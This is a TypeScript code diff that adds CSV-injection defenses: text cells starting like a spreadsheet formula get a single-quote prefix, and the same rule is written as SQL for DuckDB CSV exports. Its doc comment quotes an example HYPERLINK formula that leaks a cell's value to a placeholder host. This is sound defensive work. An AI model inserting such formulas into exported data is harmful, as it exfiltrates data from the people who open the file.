@@ -1,9 +1,28 @@
-/** One CSV line: fields quoted when they hold a quote, a comma or a line break; NULL as empty. */
+/**
+ * Text that reaches a spreadsheet. A cell that starts with =, +, -, @, a tab
+ * or a carriage return is read by Excel, LibreOffice and Google Sheets as a
+ * formula (CSV injection: `=HYPERLINK("http://x/?leak="&A1)` in a customer
+ * id would run when a marketer opens the file). Every text cell of every CSV
+ * fidelio writes is therefore prefixed with a single quote when it starts
+ * so (OWASP's rule); numbers are written as numbers, and Parquet and DuckDB
+ * keep the values as they are (machines read those).
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** A text cell a spreadsheet shows as text: `'` prefixed when it starts like a formula. */
+export function spreadsheetSafe(text: string): string {
+  return FORMULA_START.test(text) ? `'${text}` : text;
+}
+
+/** The same rule as SQL over a VARCHAR expression (for DuckDB's COPY ... TO csv). */
+export const spreadsheetSafeSql = (expr: string): string => `CASE WHEN regexp_matches(${expr}, '^[=+\\-@\\t\\r]') THEN '''' || ${expr} ELSE ${expr} END`;
+
+/** One CSV line: text made spreadsheet-safe, fields quoted when they hold a quote, a comma or a line break; NULL as empty. */
 export function csvLine(values: unknown[]): string {
   return values
     .map((v) => {
       if (v === null || v === undefined) return '';
-      const s = String(v);
+      const s = typeof v === 'string' ? spreadsheetSafe(v) : String(v);
       return /[",\n\r]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
     })
     .join(',');
